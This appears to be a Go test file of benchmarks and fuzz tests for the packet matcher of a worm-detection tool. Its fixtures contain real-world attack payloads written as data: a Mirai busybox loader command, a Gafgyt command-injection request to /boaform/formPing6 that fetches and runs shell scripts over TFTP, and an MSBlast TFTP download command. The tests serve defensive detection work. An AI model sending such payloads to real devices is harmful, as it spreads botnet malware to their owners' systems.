package wire

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"
	"testing"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"

	"wormsink/internal/evidencetest"
	"wormsink/signatures"
)

// BenchmarkPacket measures the per-frame cost of the common, non-matching
// traffic of a mirror port, and of a worm request.
func BenchmarkPacket(b *testing.B) {
	cases := []struct {
		name string
		lt   layers.LinkType
		data []byte
	}{
		{"tcp-http", layers.LinkTypeEthernet, tcpFrame(b, 80, bytes.Repeat([]byte("x"), 1200))},
		{"tcp-4444-benign", layers.LinkTypeEthernet, tcpFrame(b, 4444, bytes.Repeat([]byte("x"), 1200))},
		{"udp-dns", layers.LinkTypeEthernet, udp4(b, other, infected, 5353, 53, []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"))},
		{"tftp-legit", layers.LinkTypeEthernet, udp4(b, other, infected, 2000, 69, rrq(1, "pxelinux.0", "octet"))},
		{"ipv6-udp", layers.LinkTypeRaw, ip6UDP(b, victim6, infected6, 1, 2, []byte("hello"))},
		{"tftp-msblast", layers.LinkTypeEthernet, udp4(b, victim, infected, 1025, 69, rrq(1, "msblast.exe", "octet"))},
		{"qinq-tftp-msblast", layers.LinkTypeEthernet, ethRaw([]uint16{0x88a8, 0x8100}, 0x0800, ip4Raw(protoUDP, udpBytes(b, 1025, 69, rrq(1, "msblast.exe", "octet"))))},
		{"vlan-ipv6-ext-tftp-msblast", layers.LinkTypeEthernet, ethRaw([]uint16{0x8100}, 0x86dd,
			ip6Raw([]byte{protoHopByHop, protoRouting, protoDestOpts}, protoUDP, udpBytes(b, 1025, 69, rrq(1, "msblast.exe", "octet"))))},
		{"vlan-ipv6-ext-https", layers.LinkTypeEthernet, ethRaw([]uint16{0x8100}, 0x86dd,
			ip6Raw([]byte{protoHopByHop, protoRouting, protoDestOpts}, protoTCP, tcpRaw(443, bytes.Repeat([]byte("x"), 1200))))},
		{"ipv6-tcp-4444-command", layers.LinkTypeEthernet, ethRaw(nil, 0x86dd, ip6Raw(nil, protoTCP, tcpRaw(4444, []byte("tftp -i 10.0.0.9 GET msblast.exe"))))},
		// Port 80 and 23 carry command rules: ordinary web requests (one
		// naming loader files, which the scanner reads through), and the
		// loaders' lines in telnet and in an exploit's URL-encoded body.
		{"tcp-80-web", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte(benchWebRequest))},
		{"tcp-80-web-names-tftp", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte("GET /mirror/tftp/bins/tftp1.sh?from=tftp%20-g HTTP/1.1\r\n"+benchWebRequest[strings.Index(benchWebRequest, "Host:"):]))},
		{"tcp-23-mirai-loader", layers.LinkTypeEthernet, tcpFrame(b, 23, []byte("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"))},
		{"tcp-80-exploit-gafgyt", layers.LinkTypeEthernet, tcpFrame(b, 80, []byte("POST /boaform/formPing6 HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\npingAddr=%3bcd+/tmp%3btftp+10.0.0.9+-c+get+axistftp1.sh%3bsh+axistftp1.sh%3btftp+-r+axistftp2.sh+-g+10.0.0.9&wanif=65535"))},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{})
			// A TCP frame is the next segment of its stream each time
			// (else all but the first would be retransmissions, not read).
			seqAt, step := -1, uint32(0)
			if c.lt == layers.LinkTypeEthernet {
				pk := gopacket.NewPacket(c.data, layers.LayerTypeEthernet, gopacket.NoCopy)
				if tl := pk.Layer(layers.LayerTypeTCP); tl != nil {
					seqAt = len(c.data) - len(tl.LayerContents()) - len(tl.LayerPayload()) + 4
					step = uint32(len(tl.LayerPayload()))
				}
			}
			b.ReportAllocs()
			b.SetBytes(int64(len(c.data)))
			seq := uint32(0)
			for b.Loop() {
				if seqAt >= 0 {
					seq += step
					binary.BigEndian.PutUint32(c.data[seqAt:], seq)
				}
				m.Packet(c.lt, c.data, Meta{Time: baseTime})
			}
		})
	}
}

// benchWebRequest is a browser's request as a mirror port carries many.
const benchWebRequest = "GET /static/js/app.min.js?v=20261206 HTTP/1.1\r\nHost: www.example.com\r\n" +
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0\r\n" +
	"Accept: */*\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br, zstd\r\n" +
	"Referer: https://www.example.com/products/index.html?utm_source=newsletter&utm_medium=email%20campaign\r\n" +
	"Cookie: session=8f3a9c1d2e4b5a6f7089; consent=%7B%22ads%22%3Afalse%7D\r\nConnection: keep-alive\r\n\r\n"

// FuzzPacket feeds arbitrary frames of every supported link type to the
// matcher: it must never panic, and a frame must never yield an odd
// number of TFTP events.
func FuzzPacket(f *testing.F) {
	seeds := [][]byte{
		udp4(f, victim, infected, 1025, 69, rrq(1, "msblast.exe", "octet")),
		tcpFrame(f, 4444, []byte("tftp -i 10.0.0.9 GET msblast.exe")),
		frag4(f, victim, infected, 7, 0, true, make([]byte, 16)),
		frag4(f, victim, infected, 7, 16, false, []byte{1, 2}),
		ip6UDP(f, victim6, infected6, 1025, 69, rrq(1, "msblast.exe", "octet")),
	}
	for _, cf := range craftedFiles(f) {
		for _, fr := range cf.frames {
			seeds = append(seeds, fr.data)
		}
	}
	for _, s := range seeds {
		f.Add(uint8(0), s)
	}
	lts := []layers.LinkType{layers.LinkTypeEthernet, layers.LinkTypeLinuxSLL, layers.LinkTypeLinuxSLL2,
		layers.LinkTypeNull, layers.LinkTypeRaw, layers.LinkTypeIPv4, layers.LinkTypeIPv6, layers.LinkTypeLoop}
	// One matcher for the whole run, so reassembly state carries over
	// between inputs as it does on a live wire.
	var rec evidencetest.Recorder
	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{AnyPort: true, FragDatagrams: 8, FragBytes: 1 << 16, Streams: 16, StreamTail: 64})
	f.Fuzz(func(t *testing.T, which uint8, data []byte) {
		rec.Reset()
		m.Packet(lts[int(which)%len(lts)], data, Meta{Time: baseTime})
		tftp := 0
		for _, ev := range rec.Events() {
			if ev.File != "" {
				tftp++
			}
			if !ev.Host.IsValid() || !ev.Peer.IsValid() {
				t.Fatalf("event without hosts: %+v", ev)
			}
		}
		if tftp%2 != 0 {
			t.Fatalf("%d tftp events", tftp)
		}
		if m.defrag.bytes > 1<<16 || len(m.defrag.live) > 8 {
			t.Fatalf("reassembly over its bounds: %d bytes, %d datagrams", m.defrag.bytes, len(m.defrag.live))
		}
		if s := m.streams; s != nil {
			if len(s.e) != 16 || len(s.buf) != 2*16*64 {
				t.Fatalf("stream table grew: %d entries, %d bytes", len(s.e), len(s.buf))
			}
			for i := range s.e {
				// The carry takes the hold's half only while nothing is held.
				if e := &s.e[i]; e.used && (int(e.n) > 2*s.tail || e.cur.Open < 0 || e.cur.Open > int(e.n) ||
					int(e.n) > s.tail && (e.heldN > 0 || e.headN > 0) || int(e.heldN) > s.tail || int(e.headN) > s.tail) {
					t.Fatalf("stream %d: %d bytes carried, open at %d", i, e.n, e.cur.Open)
				}
			}
		}
	})
}

// FuzzScan feeds arbitrary files to the pcap/pcapng reader.
func FuzzScan(f *testing.F) {
	for _, cf := range craftedFiles(f) {
		f.Add(encode(f, cf))
	}
	m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{})
	f.Fuzz(func(t *testing.T, data []byte) {
		n, err := m.Scan(context.Background(), bytes.NewReader(data), "fuzz")
		if err != nil && !strings.Contains(err.Error(), "fuzz: ") {
			t.Fatalf("error does not name the file: %v", err)
		}
		if uint64(len(data)) < 16*n {
			t.Fatalf("%d packets from %d bytes", n, len(data))
		}
	})
}
